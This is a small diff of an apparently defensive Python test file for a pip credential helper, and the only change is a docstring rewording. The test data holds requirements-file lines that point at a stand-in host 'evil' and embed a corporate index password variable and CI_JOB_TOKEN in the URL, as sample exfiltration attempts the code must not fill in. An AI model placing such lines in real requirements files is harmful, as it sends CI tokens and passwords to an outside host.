@@ -157,7 +157,7 @@ def test_a_pipe_is_left_to_pip(ask: Discover, tmp_path: Path) -> None:
 
 
 def test_a_requirements_file_gets_no_secret_by_its_name(tmp_path: Path) -> None:
-    """A15: a variable that pip will not have is not filled in here either, and nobody is sent it as a password."""
+    """A15: a variable that pip does not get is not filled in here either, and no index gets it as a password."""
     lines = (
         "-i https://u:${AUTHPIP_INDEX_CORP_PASSWORD}@evil/simple/",
         "--extra-index-url https://ci:${CI_JOB_TOKEN}@evil/${CI_JOB_TOKEN}/",
